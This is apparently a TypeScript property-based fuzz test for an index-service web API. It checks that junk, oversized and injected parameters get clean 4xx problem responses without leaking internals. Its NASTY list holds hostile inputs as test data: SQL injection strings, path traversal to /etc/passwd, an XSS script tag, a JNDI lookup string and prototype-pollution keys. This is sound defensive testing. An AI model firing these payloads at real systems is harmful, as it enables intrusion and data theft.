// Junk, huge, repeated and injected parameters: an answer or a problem, never a 5xx, and nothing of the inside shows.
import fc from "fast-check";
import { beforeEach, describe, expect, it } from "vitest";
import { isoDay } from "../../lib/time.ts";
import { type Answer, MARKET, service } from "./service.ts";

const { request } = service();
const LAST = isoDay(MARKET.sessions.at(-1)!);

// Some of the hostile requests are good ones that delete it.
beforeEach(async () => {
  await request("POST /build-index", { json: { start_date: LAST, index: "top5-ew" } });
});

const NASTY = [
  "",
  " ",
  "null",
  "NaN",
  "Infinity",
  "-1",
  "0",
  "1e999",
  "9".repeat(400),
  "2024-13-45",
  "2023-02-29",
  "0000-00-00",
  "2024-01-19T00:00:00Z",
  "2024-01-19' OR 1=1 --",
  "'; drop table day; --",
  '")); select * from member; --',
  "../../../../etc/passwd",
  "..%2f..%2fmanifest.json",
  "%00",
  "\u0000",
  "%E0%A4%A",
  "%",
  "<script>alert(1)</script>",
  "$" + "{jndi:ldap://example.com}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "toString",
  "definitions",
  "top5-ew/2024",
  "TOP5-EW",
  "top99999-ew",
  "x".repeat(5000),
  "💣".repeat(50),
  "a&b=c",
  "true",
  "[]",
  "{}",
  '{"id":"x"}',
];

const PARAMETERS = [
  "start_date",
  "end_date",
  "date",
  "index",
  "reserve",
  "benchmark",
  "risk_free",
  "cost_bps",
  "format",
  "min_version",
  "sheets",
  "id",
  "ticker",
  "name",
  "seq",
  "limit",
  "__proto__",
  "constructor",
  "start_date[]",
  "",
];

const READS = [
  "GET /index-performance",
  "GET /index-composition",
  "GET /composition-changes",
  "GET /index-attribution",
  "GET /indices",
  "GET /api/v1/sessions",
  "GET /api/v1/universe",
  "GET /api/v1/datasets",
  "GET /api/v1/health",
];
const PATHS = [
  (a: string) => `GET /indices/${a}`,
  (a: string) => `DELETE /indices/${a}`,
  (a: string, b: string) => `GET /indices/${a}/members/${b}`,
  (a: string) => `GET /api/v1/daily/${a}`,
  (a: string) => `GET /api/v1/datasets/${a}/versions`,
  (a: string) => `POST /api/v1/datasets/${a}/rollback`,
];
const WRITES = ["POST /build-index", "POST /export-data", "POST /api/v1/datasets/index/rollback"];

const value = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.constantFrom(LAST, "top5-ew", "csv", "cap_weighted", "1") },
  fc.string({ unit: "binary", maxLength: 40 }),
);
const encoded = value.map((text) => encodeURIComponent(text.toWellFormed()));
const query = fc
  .array(
    fc.tuple(
      fc.oneof(fc.constantFrom(...PARAMETERS), fc.string({ maxLength: 8 })),
      // As a client would send it, or raw.
      fc.oneof(encoded, value),
    ),
    { maxLength: 4 },
  )
  .map((pairs) => pairs.map(([name, text]) => `${name}=${text}`).join("&"));

const isTold = ({ status, headers, body, text }: Answer) => {
  if (status < 400) return;
  expect(headers["content-type"]).toBe("application/problem+json");
  expect(body).toMatchObject({
    type: expect.stringMatching(/^urn:equipoise:problem:[a-z-]+$/),
    title: expect.any(String),
    status,
    code: expect.stringMatching(/^[A-Z_]+$/),
    detail: expect.any(String),
    request_id: expect.any(String),
  });
  expect(text.length).toBeLessThan(20_000);
  expect(text).not.toMatch(/sqlite|\bat .+\.ts:\d|node_modules/i);
};

const answers = async (target: string, sent: Parameters<typeof request>[1] = {}) => {
  const answer = await request(target, sent);
  expect(answer.status, `${target.slice(0, 200)} ${answer.text.slice(0, 300)}`).toBeLessThan(500);
  isTold(answer);
  return answer;
};

describe("hostile requests", () => {
  it("to the reading endpoints are answered", { timeout: 60_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...READS), query, async (target, text) => {
        await answers(`${target}?${text}`);
      }),
      { seed: 1, numRuns: 400 },
    );
  });

  it("in the path are answered", { timeout: 60_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...PATHS), encoded, encoded, async (path, a, b) => {
        const { status } = await answers(path(a || "%20", b || "%20"));
        if (a !== "top5-ew" && a !== "index") expect(status).toBeGreaterThanOrEqual(400);
      }),
      { seed: 2, numRuns: 150 },
    );
  });

  it("in the body are answered", { timeout: 60_000 }, async () => {
    const json = fc.dictionary(
      fc.constantFrom(...PARAMETERS),
      fc.oneof(value, fc.jsonValue({ maxDepth: 3 })),
      { maxKeys: 4 },
    );
    const rules = fc.record(
      {
        id: fc.oneof(value, fc.constant("odd")),
        size: fc.oneof(fc.double(), value),
        base_value: fc.oneof(fc.double(), value),
        rebalance: value,
        max_stale_days: fc.double(),
        universe: fc.jsonValue({ maxDepth: 2 }),
        more: fc.jsonValue({ maxDepth: 1 }),
      },
      { requiredKeys: [] },
    );
    const body = fc.oneof(
      json.map((object) => JSON.stringify(object)),
      rules.map((index) => JSON.stringify({ start_date: LAST, index })),
      fc.jsonValue().map((any) => JSON.stringify(any)),
      value,
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...WRITES), body, async (target, text) => {
        await answers(target, { text });
      }),
      { seed: 3, numRuns: 200 },
    );
  });

  it.each([
    ["a name that is given twice", `date=${LAST}&date=${LAST}`],
    ["a name in another case", `Date=${LAST}`],
    ["a parameter nobody knows", `date=${LAST}&limit=5`],
    ["an empty value", "date="],
    ["a day that does not exist", "date=2023-02-29"],
    ["a day with a time", `date=${LAST}T00:00`],
    ["broken percent-encoding", "date=%E0%A4%A"],
    ["a number out of range", `date=${LAST}&reserve=501`],
    ["a fraction where a count belongs", `date=${LAST}&reserve=1.5`],
    ["another format", `date=${LAST}&format=xml`],
  ])("with %s are refused by name", async (_, text) => {
    const answer = await answers(`GET /index-composition?${text}`);
    expect(answer).toMatchObject({ status: 400, body: { code: "BAD_REQUEST" } });
    const [error] = answer.body.errors as { path: string; message: string }[];
    expect(["date", "Date", "limit", "reserve", "format"]).toContain(error!.path);
  });

  it.each([
    ["not JSON", "{", 400],
    ["not an object", "[1]", 400],
    ["nested deeper than anybody needs", `{"index":${"[".repeat(500)}${"]".repeat(500)}}`, 400],
    ["larger than anybody needs", JSON.stringify({ index: "x".repeat(300_000) }), 413],
    ["the same parameter as the query", JSON.stringify({ end_date: LAST }), 400],
  ])("with a body that is %s are refused", async (_, text, status) => {
    const target = `POST /build-index?start_date=${LAST}&end_date=${LAST}`;
    expect((await answers(target, { text })).status).toBe(status);
  });

  it("change nothing that is stored", async () => {
    const { body } = await request("GET /indices/top5-ew");
    expect(body).toMatchObject({ parameters: { size: 5 }, built: { start_date: LAST } });
    expect(await request("GET /api/v1/sessions")).toMatchObject({
      body: { sessions_total: MARKET.sessions.length },
    });
  });
});
